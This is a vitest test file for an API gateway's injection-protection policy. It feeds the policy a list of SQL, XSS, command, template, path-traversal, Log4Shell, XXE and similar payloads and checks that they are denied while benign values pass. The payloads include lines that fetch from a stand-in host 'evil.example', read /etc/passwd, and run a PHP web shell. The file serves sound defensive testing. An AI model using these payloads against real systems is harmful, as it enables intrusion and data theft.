import { describe, expect, test } from 'vitest'
import { loadOpenApi } from '../../gateway-core/openapi/load.ts'
import { type InjectionClass } from '../../gateway-core/policies/injection-protection/finding.ts'
import { injectionProtection } from '../../gateway-core/policies/injection-protection/injection-protection.ts'
import { judgeWith, loadPolicies, type Given } from './harness.ts'

async function judge(given: Given, config: object = {}) {
  const result = await judgeWith({ 'injection-protection': config }, given)
  expect(result.trace.filter((entry) => entry.verdict === 'error')).toEqual([])
  return result
}
const query = (value: string): Given => ({ request: { url: `/books?q=${encodeURIComponent(value)}` } })
const json = (value: unknown): Given => ({
  request: {
    method: 'POST',
    url: '/books',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(value),
  },
})

describe('attacks, by class', () => {
  const attacks: [InjectionClass, string][] = [
    ['sql', `' OR '1'='1`],
    ['sql', `1 OR 1=1`],
    ['sql', `admin'--`],
    ['sql', `1; DROP TABLE users`],
    ['sql', `-1 UNION ALL SELECT name, password FROM users`],
    ['sql', `1/**/UNION/**/SELECT/**/1,2`],
    ['sql', `'; WAITFOR DELAY '0:0:5'--`],
    ['sql', `1 AND SLEEP(5)`],
    ['sql', `') ORDER BY 7#`],
    ['sql', `%27%20or%20%271%27=%271`],
    ['sql', `＇ or ＇1＇=＇1`],
    ['nosql', `{"$gt": ""}`],
    ['nosql', `' || this.password.match(/.*/) || '`],
    ['xss', `<script>alert(1)</script>`],
    ['xss', `<img src=x onerror=alert(1)>`],
    ['xss', `" onmouseover="alert(1)`],
    ['xss', `<a href="java&#x0a;script:alert(1)">x</a>`],
    ['xss', `%253Cscript%253Ealert(1)%253C/script%253E`],
    ['xss', `<svg/onload=alert\`1\`>`],
    ['command', `; cat /etc/passwd`],
    ['command', `127.0.0.1 && whoami`],
    ['command', `$(curl http://evil.example/x)`],
    ['command', `a;c'a't$IFS/etc/passwd`],
    ['command', `() { :;}; /bin/bash -c id`],
    ['code', `<?php system($_GET['c']); ?>`],
    ['code', `require('child_process').exec('id')`],
    ['code', `java.lang.Runtime`],
    ['code', `O:8:"stdClass":1:{s:1:"a";i:2;}`],
    ['ldap', `*)(uid=*))(|(uid=*`],
    ['template', `{{7*7}}`],
    ['template', `\${T(java.lang.Runtime).getRuntime().exec('id')}`],
    ['template', `<!--#exec cmd="ls" -->`],
    ['path', `../../../../etc/passwd`],
    ['path', `..%c0%af..%c0%afboot.ini`],
    ['path', `....//....//etc/passwd`],
    ['crlf', `x\r\nSet-Cookie: a=b`],
    ['log4shell', '${jndi:ldap://evil.example/a}'],
    ['log4shell', '${${lower:j}${::-n}di:ldap://evil.example/a}'],
    ['xxe', `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`],
    ['redirect', `https://good.example@0x7f000001/`],
  ]
  test.each(attacks)('%s: %s', async (kind, value) => {
    const { verdict, code, evidence } = await judge(query(value))
    expect({ verdict, code }).toEqual({ verdict: 'deny', code: 'INJECTION_DETECTED' })
    expect(evidence[0]).toMatchObject({ at: { in: 'query', name: 'q' } })
    const alone = await judge(query(value), { classes: [kind] })
    expect(alone.evidence[0]?.detail).toMatchObject({ class: kind })
    if (kind !== 'redirect')
      expect((await judge(json({ a: [{ note: value }] }))).evidence[0]).toMatchObject({
        at: { in: 'body', pointer: '/a/0/note' },
      })
  })
})

describe('honest values pass', () => {
  test.each([
    `Flann O'Brien`,
    `Rock 'n' roll & soul; then jazz`,
    `Tom & Jerry | the best of`,
    `select a book from the list`,
    `It's 5 > 3 and 2 < 4, isn't it?`,
    `Drop the table off at the union, and select one`,
    `startTime ge '2018-08-04T18:30:00Z' and endTime le '2018-08-11T18:30:00Z'`,
    `status in ("open", "closed")`,
    `<b>Bonjour</b> & <i>bienvenue</i>`,
    `<your name here>`,
    `I <3 books`,
    `Hello {{firstName}}, your code is \${code}`,
    `https://example.com/a/b?c=d&e=f#g`,
    `user@example.com`,
    `C++ (2nd edition) -- revised`,
    `price: $50; qty: 2`,
    `and so on...`,
    `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36`,
    `eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl`,
    `Line one\nFrom: nobody\nLine two`,
    `50% off; 100% wool`,
    `name,asc;title,desc`,
    `arn:aws:iam::123456789012:role/path/name`,
    `SGVsbG8gd29ybGQsIHRoaXMgaXMgYmFzZTY0`,
  ])('%s', async (value) => {
    expect((await judge(json({ note: value }))).evidence).toEqual([])
    if (!value.includes('\n')) expect((await judge(query(value))).evidence).toEqual([])
  })
})

describe('every place is looked at', () => {
  const attack = '<script>alert(1)</script>'
  const form = { 'content-type': 'application/x-www-form-urlencoded' }
  const cases: [string, Given['request'], object][] = [
    ['query name', { url: '/x?user[$ne]=1' }, { in: 'query', name: 'user[$ne]' }],
    ['path', { url: `/x/${encodeURIComponent("1' or '1'='1")}` }, { in: 'path' }],
    ['header', { url: '/x', headers: { 'x-note': attack } }, { in: 'header', name: 'x-note' }],
    [
      'user agent',
      { url: '/x', headers: { 'user-agent': '${jndi:ldap://x/a}' } },
      { in: 'header', name: 'user-agent' },
    ],
    [
      'cookie',
      { url: '/x', headers: { cookie: `a=b; theme=${encodeURIComponent(attack)}` } },
      { in: 'cookie', name: 'theme' },
    ],
    [
      'JSON name',
      { method: 'POST', url: '/x', headers: { 'content-type': 'application/json' }, body: '{"user":{"$where":"1"}}' },
      { in: 'body', pointer: '/user/$where' },
    ],
    [
      'prototype',
      {
        method: 'POST',
        url: '/x',
        headers: { 'content-type': 'application/json' },
        body: '{"__proto__":{"admin":true}}',
      },
      { in: 'body', pointer: '/__proto__' },
    ],
    [
      'form',
      { method: 'POST', url: '/x', headers: form, body: `a=b&c=${encodeURIComponent(attack)}` },
      { in: 'body', pointer: '/c' },
    ],
    [
      'multipart',
      {
        method: 'POST',
        url: '/x',
        headers: { 'content-type': 'multipart/form-data; boundary=B' },
        body: `--B\r\nContent-Disposition: form-data; name="t"\r\n\r\n${attack}\r\n--B--\r\n`,
      },
      { in: 'body', pointer: '/t' },
    ],
    ['text', { method: 'POST', url: '/x', headers: { 'content-type': 'text/plain' }, body: attack }, { in: 'body' }],
    [
      'XML',
      {
        method: 'POST',
        url: '/x',
        headers: { 'content-type': 'application/xml' },
        body: '<!DOCTYPE a SYSTEM "http://x/y.dtd"><a/>',
      },
      { in: 'body' },
    ],
  ]
  test.each(cases)('%s', async (_name, request, at) => {
    expect((await judge({ request })).evidence[0]).toMatchObject({ at })
  })

  test('credentials are not', async () => {
    const headers = { authorization: `Basic ${attack}`, 'x-api-key': attack }
    expect((await judge({ request: { url: '/x', headers } })).verdict).toBe('pass')
  })

  test('nothing secret is shown', async () => {
    const { evidence } = await judge(json({ password: `hunter2' or '1'='1` }))
    expect(evidence[0]).toMatchObject({ secret: true, at: { pointer: '/password' } })
    expect(JSON.stringify(evidence)).not.toContain('hunter2')
  })

  test('ignored places are not', async () => {
    const ignore = ['body:/items/*/html', 'query:q', 'header:x-note']
    expect((await judge(json({ items: [{ html: attack }] }), { ignore })).verdict).toBe('pass')
    expect((await judge(json({ items: [{ text: attack }] }), { ignore })).verdict).toBe('deny')
    expect(
      (await judge({ request: { url: `/x?q=${attack}`, headers: { 'X-Note': attack } } }, { ignore })).verdict,
    ).toBe('pass')
  })

  test('evidence says class, rule, place, span and how it was decoded', async () => {
    const { evidence } = await judge(query('hello ../../etc/passwd'))
    expect(evidence[0]).toMatchObject({
      observed: 'hello ../../etc/passwd',
      detail: { class: 'path', score: 10 },
      at: { span: [6, 22] },
      expected: 'a value without path traversal (upwards to a system file)',
    })
    const decoded = await judge(query('%3Cscript%3Ealert(1)'))
    expect(decoded.evidence[0]).toMatchObject({ observed: '<script>alert(1)', detail: { decoded: 'url' } })
  })
})

describe('what the document declares counts', () => {
  const document = loadOpenApi(
    `
openapi: 3.1.0
info: { title: t, version: '1' }
paths:
  /notes/{id}:
    post:
      parameters:
        - { name: id, in: path, required: true, schema: { type: string, format: uuid } }
        - { name: sort, in: query, schema: { enum: ["name; ls", "id"] } }
        - { name: page, in: query, schema: { type: integer } }
      requestBody:
        content:
          application/json:
            schema:
              type: object
              properties:
                page: { type: string, format: html }
                comment: { type: string }
                op: { enum: ["$where", "1 or 1=1"] }
                list: { type: array, items: { $ref: '#/components/schemas/Row' } }
components:
  schemas:
    Row: { type: object, properties: { when: { type: string, format: date }, sub: { $ref: '#/components/schemas/Row' } } }
`,
    'd.yaml',
    () => undefined,
  ).document as Record<string, unknown>
  const id = '123e4567-e89b-42d3-a456-426614174000'
  const post = (body: unknown, search = '', path = id): Given => ({
    openapi: document,
    request: {
      method: 'POST',
      url: `/notes/${path}${search}`,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    },
  })

  test.each([
    ['a listed value that looks like an attack', post({ op: '1 or 1=1' })],
    ['a listed query value', post({}, `?sort=${encodeURIComponent('name; ls')}`)],
    ['markup where HTML is declared', post({ page: '<form action="/a"><input name="x"></form>' })],
    ['weak evidence in declared text', post({ comment: '{% if x %}' })],
  ])('%s passes', async (_name, given) => expect((await judge(given)).evidence).toEqual([]))

  test.each([
    ['a value outside the list', post({ op: '1 or 1=1 --' })],
    ['a number that is none', post({}, `?page=${encodeURIComponent('1 or 1=1')}`)],
    ['script where HTML is declared', post({ page: '<img src=x onerror=alert(1)>' })],
    ['strong evidence in declared text', post({ comment: `' or 1=1--` })],
    ['a date that is none, deep inside', post({ list: [{ sub: { sub: { when: `' or 1=1--` } } }] })],
    ['a path parameter that is no uuid', post({}, '', encodeURIComponent(`' or 1=1--`))],
  ])('%s is denied', async (_name, given) => expect((await judge(given)).code).toBe('INJECTION_DETECTED'))
})

describe('options', () => {
  test('sensitivity', async () => {
    const weak = query('{% if user %}hello{% endif %}')
    expect((await judge(weak, { sensitivity: 'low' })).verdict).toBe('pass')
    expect((await judge(weak)).verdict).toBe('deny')
    expect((await judge(query(`' or 1=1--`), { sensitivity: 'low' })).verdict).toBe('deny')
  })

  test('the example of the documentation loads', () => {
    expect(loadPolicies(injectionProtection.docs.example).problems).toEqual([])
  })
})
